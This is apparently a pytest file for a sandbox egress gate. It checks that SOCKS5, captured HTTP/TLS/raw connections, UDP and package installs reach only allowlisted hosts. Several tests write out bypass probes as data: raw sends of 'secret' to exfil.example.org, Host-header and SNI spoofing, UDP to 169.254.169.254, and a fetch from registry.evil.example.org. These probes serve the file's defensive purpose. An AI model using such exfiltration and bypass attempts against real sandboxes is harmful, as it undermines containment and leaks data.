"""The egress gate, end to end: the ways out. SOCKS5 and other protocols
on the proxy port, programs that ignore the proxy variables (captured by
address, by name through the gate's DNS, TLS by SNI), and UDP, which goes
nowhere but the DNS responder. Fixtures in gatekit.py.
"""

from gatekit import (CURL, IS_ROOT, LOCAL, gate, lines, need_names, py,  # noqa: F401
                     results, rule_at, sh, ups, wait_for)


# ---- SOCKS5 ----------------------------------------------------------------

def test_socks5_allowed_and_denied(gate):
    pol = gate.policy(LOCAL)
    hostname = "a.example.test" if IS_ROOT else "127.0.0.1"
    if IS_ROOT:
        pol = gate.policy(LOCAL + "  - host: a.example.test\n    ports: [{web}]\n")
    r = gate.run(pol, sh(
        f"{CURL} --noproxy '' --socks5-hostname 127.0.0.1:3128 http://{hostname}:{gate.web}/s5h; "
        f"{CURL} --noproxy '' --socks5 127.0.0.1:3128 http://{hostname}:{gate.web}/s5; "
        f"{CURL} --noproxy '' --socks5-hostname 127.0.0.1:3128 http://denied.example.org/; "
        "echo curl=$?; "
        f"{CURL} --noproxy '' --socks5 127.0.0.1:3128 http://127.0.0.1:{gate.other}/; "
        "echo curl=$?; "
        # a raw client: the reply code says "not allowed by ruleset"
        "/usr/bin/python3 -c \"from gatelib import *; import struct; "
        "r = raw('127.0.0.1', 3128, b'\\x05\\x01\\x00' + b'\\x05\\x01\\x00\\x03' + "
        "bytes([len(b'x.denied.org')]) + b'x.denied.org' + struct.pack('>H', 443)); "
        "print('reply', r[:2].encode('latin-1').hex(), r[2:4].encode('latin-1').hex())\""))
    out = lines(r)
    assert out[:2] == ["web GET /s5h", "web GET /s5"], r.stdout + r.stderr
    assert out[2:4] == ["curl=97", "curl=97"], r.stdout + r.stderr
    assert out[4] == "reply 0500 0502", out
    assert gate.ups.web.paths() == ["/s5h", "/s5"] and gate.ups.other.requests == []
    # --socks5 resolves in the sandbox: a synthetic address, mapped back
    allowed = gate.egress(decision="allow", proto="socks5")
    assert [x["host"] for x in allowed] == [hostname, hostname], gate.log()
    assert all(x["port"] == gate.web for x in allowed)
    for host, port in (("denied.example.org", 80), ("127.0.0.1", gate.other),
                       ("x.denied.org", 443)):
        rec = gate.one(decision="deny", host=host, port=port)
        assert rec["proto"] == "socks5" and rec["why"] == "not-allowed", rec
        assert rec["rule"] == "no rule allows it"


def test_other_commands_and_protocols_on_the_proxy_port(gate):
    pol = gate.policy(LOCAL)
    r = gate.run(pol, py(f"""
        import struct
        def socks(cmd, addr, port):
            return bytes([5, 1, 0, 5, cmd, 0]) + addr + struct.pack(">H", port)
        def hexraw(data):
            return raw("127.0.0.1", 3128, data).encode("latin-1").hex()
        out("bind", hexraw(socks(2, bytes([1, 127, 0, 0, 1]), {gate.web})))
        out("udp-associate", hexraw(socks(3, bytes([1, 0, 0, 0, 0]), 0)))
        out("socks4", hexraw(bytes([4, 1]) + struct.pack(">H", {gate.web}) +
                             bytes([127, 0, 0, 1]) + b"u\\0"))
        out("tls", hexraw(bytes([0x16, 3, 1, 0, 5, 1, 0, 0, 1, 0])))
        # the DNS responder shrugs off junk and still answers
        d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        d.settimeout(5)
        for junk in (b"", b"\\0", b"\\xff" * 12, b"\\0\\1\\1\\0\\0\\1" + b"\\xc0" * 40):
            d.sendto(junk, ("127.0.0.1", 53))
        q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + b"\\2ok\\7example\\0" + \\
            struct.pack(">HH", 1, 1)
        d.sendto(q, ("127.0.0.1", 53))
        while True:
            a = d.recv(512)
            if a[:2] == b"\\x42\\x42":
                out("dns", a[-4:-2].hex())
                break
        out("still", body(get("127.0.0.1", {gate.web}, "/still")))
        """))
    got = dict(results(r))
    # SOCKS5 reply 0x07: command not supported
    assert got["bind"].startswith("05000507") and got["udp-associate"].startswith("05000507")
    assert got["socks4"] == "" and got["tls"] == "", got
    assert got["dns"] == "c612" and got["still"] == "web GET /still\n", got
    recs = gate.egress(decision="deny")
    assert len(recs) == 4 and all(x["why"] == "bad-request" for x in recs), gate.log()
    for rec, text in zip(recs, ("BIND", "UDP ASSOCIATE", "SOCKS4", "TLS")):
        assert text in rec["reason"], (text, rec)


# ---- capture: programs that ignore the proxy variables ---------------------

def test_capture_of_programs_that_ignore_the_proxy(gate):
    extra = "  - host: a.example.test\n    ports: [{web}]\n" if IS_ROOT else ""
    pol = gate.policy(LOCAL + extra)
    name = "a.example.test" if IS_ROOT else "127.0.0.1"
    r = gate.run(pol, sh(
        f"{CURL} --noproxy '*' http://127.0.0.1:{gate.web}/curl-ip; "
        f"{CURL} --noproxy '*' http://{name}:{gate.web}/curl-name; "
        f"{CURL} --noproxy '*' -o /dev/null -w '%{{http_code}}\\n' "
        f"http://denied.example.org:{gate.web}/no; "
        f"node -e \"fetch('http://{name}:{gate.web}/node').then(r => r.text())"
        ".then(t => process.stdout.write(t), e => console.log('node error', e.cause || e))\"; "
        f"/usr/bin/python3 -c \"from gatelib import *; "
        f"print(body(get('{name}', {gate.web}, '/py-raw', via_proxy=False)), end=''); "
        f"print(repr(raw('127.0.0.1', {gate.echo}, b'1 ping' + bytes([10]), shut=True)))\"; "
        "getent hosts denied.example.org"))
    out = lines(r)
    assert out[:2] == ["web GET /curl-ip", "web GET /curl-name"], r.stdout + r.stderr
    assert out[2] == "403", out
    assert out[3:6] == ["web GET /node", "web GET /py-raw", "'echo:1 ping\\n'"], out
    # the sandbox's DNS gives every name a synthetic address, denied or not
    assert out[6].split()[0].startswith("198.18."), out
    assert gate.ups.web.paths() == ["/curl-ip", "/curl-name", "/node", "/py-raw"]
    # (waited for: once, the line was seen upstream only after the run)
    wait_for(lambda: gate.ups.echo.lines, f"the echo upstream's line\n{gate.log()}", 10)
    assert gate.ups.echo.lines == [b"1 ping\n"], gate.log()
    for path in ("/curl-ip", "/curl-name", "/node", "/py-raw"):
        rec = gate.one(decision="allow", path=path)
        assert rec["proto"] == "capture-http" and rec["host"] == (
            "127.0.0.1" if path == "/curl-ip" else name), rec
    if IS_ROOT:
        assert gate.one(decision="allow", path="/node")["dns_name"] == "a.example.test"
    raw_rec = gate.one(decision="allow", proto="capture-raw")
    assert raw_rec["port"] == gate.echo and raw_rec["rule"] == rule_at(pol, "host: 127.0.0.1")
    assert gate.one(decision="-", conn=raw_rec["conn"])["bytes_up"] == 7
    no = gate.one(decision="deny", host="denied.example.org")
    assert no["proto"] == "capture-http" and no["why"] == "not-allowed"
    assert no["dns_name"] == "denied.example.org" and no["path"] == "/no"


def test_capture_denies_raw_connections_to_unlisted_destinations(gate):
    pol = gate.policy("""\
        allow_private: [127.0.0.1/32]
        allow:
          - host: 127.0.0.1
            ports: [{web}]
          - host: allowed.example.org
            ports: [{echo}]
        """)
    # The echo port is captured (a rule names it) but 127.0.0.1 may not use it.
    r = gate.run(pol, py(f"""
        out("ip", raw("127.0.0.1", {gate.echo}, b"1 secret\\n"))
        out("name", raw("exfil.example.org", {gate.echo}, b"2 secret\\n"))
        """))
    got = dict(results(r))
    assert got["ip"] == "" and got["name"] == "", got
    assert gate.ups.echo.lines == []
    ip = gate.one(decision="deny", host="127.0.0.1", port=gate.echo)
    assert ip["proto"] == "capture-raw" and ip["why"] == "not-allowed", ip
    name = gate.one(decision="deny", host="exfil.example.org")
    assert name["proto"] == "capture-raw" and name["dns_name"] == "exfil.example.org"


def test_tls_capture_by_sni(gate):
    lines_pol = LOCAL + "  - host: localhost\n    ports: [{tls}]\n"
    if IS_ROOT:
        lines_pol += "  - host: tls.example.test\n    ports: [{tls}]\n"
    pol = gate.policy(lines_pol)
    script = (f"{CURL} --noproxy '*' --cacert ca.pem https://localhost:{gate.tls}/sni-local; "
              f"{CURL} --noproxy '*' --cacert ca.pem https://denied.example.org:{gate.tls}/; "
              "echo curl=$?; "
              # an IP literal: no SNI at all, the address is what is checked
              f"{CURL} --noproxy '*' --cacert ca.pem https://127.0.0.1:{gate.tls}/no-sni; "
              # an allowed address with a denied name in SNI: the name is checked
              f"{CURL} --noproxy '*' -k --resolve denied.example.org:{gate.tls}:127.0.0.1 "
              f"https://denied.example.org:{gate.tls}/fronted; echo curl=$?; ")
    if IS_ROOT:
        script += (
            f"{CURL} --noproxy '*' --cacert ca.pem https://tls.example.test:{gate.tls}/sni-dns; "
            # dialled by address, named by SNI: the name is what is checked
            f"{CURL} --noproxy '*' --cacert ca.pem --resolve tls.example.test:{gate.tls}:127.0.0.1 "
            f"https://tls.example.test:{gate.tls}/sni-resolve; "
            # the address given out for one name, with another name in SNI
            "addr=$(getent hosts a.example.test | cut -d' ' -f1); "
            f"{CURL} --noproxy '*' --cacert ca.pem --resolve tls.example.test:{gate.tls}:$addr "
            f"https://tls.example.test:{gate.tls}/; echo curl=$?; ")
    r = gate.run(pol, sh(script))
    out = lines(r)
    assert out[:4] == ["tls GET /sni-local", "curl=35", "tls GET /no-sni", "curl=35"], \
        r.stdout + r.stderr
    paths = ["/sni-local", "/no-sni"]
    if IS_ROOT:
        assert out[4:7] == ["tls GET /sni-dns", "tls GET /sni-resolve", "curl=35"], out
        paths += ["/sni-dns", "/sni-resolve"]
        mismatch = gate.one(decision="deny", proto="capture-tls", why="bad-request")
        assert "TLS names tls.example.test" in mismatch["reason"], mismatch
        assert "a.example.test" in mismatch["reason"]
        via_dns = gate.egress(decision="allow", host="tls.example.test", proto="capture-tls")
        assert len(via_dns) == 2, via_dns
    assert gate.ups.tls.paths() == paths
    local = gate.one(decision="allow", host="localhost", proto="capture-tls")
    assert local["rule"] == rule_at(pol, "host: localhost")
    no = gate.egress(decision="deny", host="denied.example.org")
    assert len(no) == 2, gate.log()
    assert all(x["proto"] == "capture-tls" and x["why"] == "not-allowed" for x in no), no
    ip = gate.one(decision="allow", host="127.0.0.1", proto="capture-tls")
    assert ip["rule"] == rule_at(pol, "host: 127.0.0.1")


def test_captured_request_must_not_change_its_name(gate):
    need_names()
    pol = gate.policy("""\
        allow_private: [127.0.0.1/32]
        allow:
          - host: a.example.test
            ports: [{web}]
          - host: b.example.test
            ports: [{web}]
        """)
    # Connect to the address given out for a denied name, claim an allowed one.
    r = gate.run(pol, py(f"""
        out(status(get("evil.example.org", {gate.web}, "/sneak", via_proxy=False,
                       host="a.example.test")))
        out(status(get("b.example.test", {gate.web}, "/sneak2", via_proxy=False,
                       host="a.example.test")))
        """))
    assert results(r) == [[400], [400]], r.stdout
    assert gate.ups.web.requests == []
    recs = gate.egress(decision="deny")
    assert len(recs) == 2 and all(x["proto"] == "capture-http" for x in recs), recs
    assert "b.example.test" in recs[1]["reason"] and recs[1]["why"] == "bad-request"


# ---- UDP ---------------------------------------------------------------------

def test_udp_goes_nowhere_but_the_dns_responder(gate):
    pol = gate.policy(LOCAL)
    r = gate.run(pol, py(f"""
        import struct
        query = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + \\
            b"".join(bytes([len(p)]) + p for p in b"leak.example.org".split(b".")) + \\
            b"\\0" + struct.pack(">HH", 1, 1)
        def probe(host, port, data):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(1)
            try:
                s.connect((host, port))
                s.send(data)
                return s.recv(512).hex()
            except socket.timeout:
                return "silence"
            except OSError as e:
                return e.strerror
        for host, port in (("8.8.8.8", 53), ("127.0.0.1", {gate.ups.udp.port}),
                           ("169.254.169.254", 53), ("127.0.0.1", 53)):
            out(host, port, probe(host, port, query))
        """))
    got = {(h, p): v for h, p, v in results(r)}
    for dest in (("8.8.8.8", 53), ("127.0.0.1", gate.ups.udp.port), ("169.254.169.254", 53)):
        assert got[dest] in ("silence", "Connection refused"), (dest, got)
    answer = bytes.fromhex(got[("127.0.0.1", 53)])
    assert answer[:2] == b"\x12\x34" and answer[-4:-2] == bytes([198, 18]), answer.hex()
    assert gate.ups.udp.received() == [], "a datagram reached the host"
    assert not gate.egress(decision="allow")


# ---- package managers --------------------------------------------------------

def test_pip_and_npm_install_from_an_allowed_index_only(gate):
    # Through the proxy by name when names resolve, else captured by address.
    pypi, npm = ("pypi.test", "npm.test") if IS_ROOT else ("127.0.0.1", "127.0.0.1")
    pol = gate.policy(f"""\
        allow_private: [127.0.0.1/32]
        allow:
          - host: {pypi}
            ports: [{{pkgs}}]
            access: read-only
            paths: ["/simple/**", "/packages/**"]
          - host: {npm}
            ports: [{{pkgs}}]
            access: read-only
            paths: ["/npm/**"]
        """)
    p = gate.pkgs
    r = gate.run(pol, sh(
        # both at once (the slowest test otherwise)
        "(python3 -m pip install -q --no-cache-dir --disable-pip-version-check --target pylib "
        f"--index-url http://{pypi}:{p}/simple/ --trusted-host {pypi} demo-pkg && "
        "PYTHONPATH=pylib python3 -c 'import demo_pkg; print(demo_pkg.WHO)') > pip.out & "
        "(npm install --silent --no-audit --no-fund --no-update-notifier --cache ./npmcache "
        f"--registry http://{npm}:{p}/npm/ --prefix js demo-pkg && "
        "node -e \"console.log(require('./js/node_modules/demo-pkg'))\") > npm.out & "
        "wait; cat pip.out npm.out; "
        # another registry is out of reach, and npm says so
        "npm view --no-update-notifier --cache ./npmcache --fetch-retries 0 "
        "--registry http://registry.evil.example.org/ demo-pkg version; echo npm=$?"))
    out = lines(r)
    assert out[:2] == ["demo-pkg from the local index", "demo-pkg from the local registry"], \
        r.stdout + r.stderr
    assert out[2] == "npm=1", r.stdout + r.stderr
    assert "npm error 403 403 Forbidden - GET http://registry.evil.example.org/demo-pkg" in \
        r.stderr, r.stderr
    seen = gate.ups.pkgs.paths()
    assert "/simple/demo-pkg/" in seen and "/packages/demo_pkg-1.0-py3-none-any.whl" in seen
    assert "/npm/demo-pkg/-/demo-pkg-1.0.0.tgz" in seen, seen
    assert gate.egress(decision="allow", path="/packages/demo_pkg-1.0-py3-none-any.whl")
    assert gate.egress(decision="deny", host="registry.evil.example.org"), gate.log()
    assert not [x for x in gate.egress(decision="deny") if x.get("port") == p], gate.log()
